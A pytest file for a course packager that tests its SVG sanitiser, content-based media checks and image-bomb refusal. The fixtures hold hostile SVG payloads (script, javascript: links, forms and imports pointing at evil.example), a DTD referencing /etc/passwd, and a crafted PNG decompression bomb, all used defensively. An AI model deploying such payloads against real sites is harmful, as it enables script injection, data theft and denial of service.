"""Hostile SVG and media files (issue 20, findings 2, 6 and 8): one allow-list sanitiser for every SVG,
media judged by content and not by name, image bombs refused before decoding, and no crash anywhere."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from packager import CourseError, ExportError, export, load_course
from packager.checks import check_course
from packager.media import images
from packager.media.probe import probe
from packager.render import Player
from packager.svg import UnsafeSvg, sanitize_svg

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
PNG_1PX = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

# Every way an SVG can run script or reach outside itself that a browser honours.
HOSTILE = f"""<svg {SVG} viewBox="0 0 10 10" onload="fetch('/x')">
<script>fetch('/x')</script>
<a href="javascript:fetch('/x')"><rect id="r" width="5" height="5"/></a>
<a xlink:href="javascript:fetch('/x')"><circle r="1"/></a>
<a><set attributeName="href" to="javascript:fetch('/x')"/><text>tap</text></a>
<a><animate attributeName="xlink:href" values="javascript:fetch('/x')"/></a>
<rect width="1" height="1"><set attributeName="fill" to="javascript:alert(1)"/></rect>
<foreignObject width="10" height="10"><html xmlns="http://www.w3.org/1999/xhtml">
<meta http-equiv="refresh" content="0;url=https://evil.example/"/>
<form action="https://evil.example/"><input name="p"/></form></html></foreignObject>
<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>
<image href="https://tracker.example/p.png" width="1" height="1"/>
<image href="data:text/html;base64,PHNjcmlwdD4=" width="1" height="1"/>
<use xlink:href="https://evil.example/sprite.svg#x"/>
<rect style="fill: url(https://tracker.example/f)" width="1" height="1"/>
<style>@import url(https://evil.example/x.css); rect {{ fill: red }}</style>
<style>circle {{ background: image-set("https://evil.example/i.png" 1x) }}</style>
<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">fetch('/x')</handler>
<g filter="url(#f)" ONCLICK="fetch('/x')" xml:base="https://evil.example/"><text>kept <tspan>text</tspan></text></g>
<image href="data:image/png;base64,{PNG_1PX}" width="1" height="1"/>
<use href="#r"/>
<linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>
<rect fill="url(#g)" width="2" height="2"><animate attributeName="width" values="2;4" dur="1s"/></rect>
</svg>"""

FORBIDDEN = re.compile(
    r"<script|<foreignObject|<iframe|<meta|<form|<handler|\bon[a-z]+=|javascript:|https?:|data:text"
    r"|<set[^>]*(href|javascript)|<animate[^>]*(href|javascript)|@import|image-set",
    re.IGNORECASE,
)


def served_svg_is_inert(svg: str) -> None:
    """What the brief asks of every SVG the studio sends: no script, handler, outside or script URL."""
    found = FORBIDDEN.search(re.sub(r'xmlns(:\w+)?="[^"]*"', "", svg))  # namespace names are not links
    assert found is None, found


def test_sanitiser_keeps_the_diagram_and_removes_every_way_to_run_or_load():
    clean = sanitize_svg(HOSTILE.encode()).decode()
    served_svg_is_inert(clean)
    for kept in ('<use href="#r"/>', 'fill="url(#g)"', 'attributeName="width"', "kept <tspan>text</tspan>", "tap"):
        assert kept in clean
    assert f"data:image/png;base64,{PNG_1PX}" in clean  # an embedded raster picture is a picture


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"<svg xmlns='http://www.w3.org/2000/svg'>\n<g>\n</svg>", "is not well-formed XML (line 3: "),
        (
            b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "file:///etc/passwd">\n<svg/>',
            "has a DTD (<!DOCTYPE …>), which is not allowed",
        ),
        (b"<html><body/></html>", "is not an SVG image: the root element is <html>, not <svg>"),
        (b"<svg><rect/></svg>", "not <svg> in the SVG namespace"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'>" + b"<g/>" * 50_001 + b"</svg>", "has 50002 elements"),
    ],
)
def test_sanitiser_refuses_what_it_cannot_clean_with_a_reason(data, message):
    with pytest.raises(UnsafeSvg) as raised:
        sanitize_svg(data)
    assert message in str(raised.value)


def content_error(data: bytes, ext: str) -> str | None:
    from packager.media.probe import content_error as judge  # imported here: before the fix it did not exist

    return judge(data, ext)


def png(width: int = 8, height: int = 6) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (20, 45, 84)).save(out, "PNG")
    return out.getvalue()


def bomb() -> bytes:
    """A PNG of a few dozen bytes whose header declares 100000 × 100000 pixels (its pixels are never there)."""
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")


LESSON = """\
---
title: A
---
Hello.

![A diagram](media/diagram.svg)

![Broken](media/broken.svg)

![Declared](media/dtd.svg)

![Huge](media/bomb.png)
"""
COURSE_YML_THUMB = "thumbnail: media/t.svg\n"


def bad_course(make_course) -> Path:
    from tests.conftest import COURSE_YML

    return make_course(
        {
            "course.yml": COURSE_YML + COURSE_YML_THUMB,
            "lessons/a.md": LESSON,
            "media/diagram.svg": png(),  # a PNG renamed
            "media/broken.svg": f"<svg {SVG}>\n<g>\n</svg>",
            "media/dtd.svg": f'<!DOCTYPE svg [<!ENTITY x "y">]>\n<svg {SVG}>&x;</svg>',
            "media/bomb.png": bomb(),
            "media/t.svg": png(),
        }
    )


def test_check_reports_bad_media_by_content_at_the_line_that_uses_it(make_course):
    root = bad_course(make_course)
    problems = [p.format() for p in check_course(load_course(root)) if p.severity == "error"]
    assert problems == [
        "course.yml:11: error: thumbnail 'media/t.svg' is not an SVG image (it is a PNG)",
        "lessons/a.md:6: error: image 'media/diagram.svg' is not an SVG image (it is a PNG)",
        "lessons/a.md:8: error: image 'media/broken.svg' is not well-formed XML "
        "(line 3: Opening and ending tag mismatch: g line 2 and svg)",
        "lessons/a.md:10: error: image 'media/dtd.svg' has a DTD (<!DOCTYPE …>), which is not allowed: "
        "delete the DOCTYPE line",
        "lessons/a.md:12: error: image 'media/bomb.png' declares far more pixels than the 40 megapixels "
        "images may have",
    ]


def test_build_reports_the_same_problems_and_never_crashes(make_course, tmp_path):
    root = bad_course(make_course)
    for fmt in ("html", "scorm12"):
        with pytest.raises(CourseError) as raised:
            export(load_course(root), fmt, tmp_path / "out")
        assert "lessons/a.md:6: error: image 'media/diagram.svg' is not an SVG image (it is a PNG)" in [
            p.format() for p in raised.value.problems
        ]


def test_a_package_never_ships_a_file_that_is_not_what_its_name_says(make_course):
    """Even past ``check`` (a player built straight from the folder): the file is named, no traceback."""
    root = bad_course(make_course)
    player = Player(load_course(root), process_media=False)
    with pytest.raises(ExportError, match=r"^media/diagram\.svg is not an SVG image \(it is a PNG\)$"):
        list(player.media_files(["media/diagram.svg"]))


def test_image_bomb_is_refused_from_its_header(tmp_path):
    (tmp_path / "bomb.png").write_bytes(bomb())
    assert len(bomb()) < 100
    assert (
        probe(tmp_path / "bomb.png", "image").error == "declares far more pixels than the 40 megapixels images may have"
    )
    assert content_error(bomb(), "png") == "declares far more pixels than the 40 megapixels images may have"
    Image.new("1", (8000, 6000)).save(tmp_path / "big.png")  # 48 MP: under Pillow's own limit, over ours
    assert content_error((tmp_path / "big.png").read_bytes(), "png") == (
        "is 8000×6000 pixels; images may have at most 40 megapixels"
    )


@pytest.mark.parametrize(
    ("data", "ext", "message"),
    [
        (png(), "svg", "is not an SVG image (it is a PNG)"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><g></svg>", "svg", "is not well-formed XML (line 1: "),
        (b"<html><script>x</script></html>", "png", "is not a PNG, JPEG, WebP or GIF image (it is a web page (HTML))"),
        (png(), "mp4", "is not a video file (it is a PNG)"),
        (b"PK\x03\x04rest", "mp3", "is not an audio file (it is a ZIP archive)"),
        (b"plain text", "gif", "is not a PNG, JPEG, WebP or GIF image (its content is no format the studio knows)"),
    ],
)
def test_content_error_names_what_the_file_really_is(data, ext, message):
    assert (content_error(data, ext) or "").startswith(message)


def test_content_error_passes_real_files(tiny_media):
    assert content_error(png(), "png") is None
    assert content_error(tiny_media["mp4"], "mp4") is None
    assert content_error(tiny_media["mp3"], "mp3") is None
    assert content_error(HOSTILE.encode(), "svg") is None  # hostile but cleanable: it is sanitised on the way out
    assert content_error(b"not checked by content", "pdf") is None  # an attachment is a download, as it is


def test_a_thumbnail_is_served_typed_by_content_and_inert(tmp_path):
    stored = tmp_path / "0123abcd"  # a snapshot keeps files under their hash: the name says nothing
    stored.write_bytes(HOSTILE.encode())
    media_type, data = images.servable(stored, "media/t.svg")
    assert media_type == "image/svg+xml" and data is not None
    served_svg_is_inert(data.decode())
    stored.write_bytes(png())
    assert images.servable(stored, "media/t.png") == ("image/png", None)
    for name, content in (("media/t.png", b"<html><script>x</script>"), ("media/t.svg", png()), ("t.png", bomb())):
        stored.write_bytes(content)
        with pytest.raises(images.NotServable):
            images.servable(stored, name)


def test_the_sanitised_svg_in_a_package_is_inert(make_course, tmp_path):
    root = make_course({"media/evil.svg": HOSTILE, "lessons/a.md": "---\ntitle: A\n---\n![Chart](media/evil.svg)\n"})
    package = export(load_course(root), "html", tmp_path / "out")
    with zipfile.ZipFile(package) as z:
        served_svg_is_inert(z.read("media/evil.svg").decode())


def test_the_probe_cache_judges_the_same_bytes_anew_under_another_name(tmp_path):
    (tmp_path / "fine.png").write_bytes(png())
    (tmp_path / "renamed.svg").write_bytes(png())
    assert probe(tmp_path / "fine.png", "image").error is None
    assert probe(tmp_path / "renamed.svg", "image").error == "is not an SVG image (it is a PNG)"
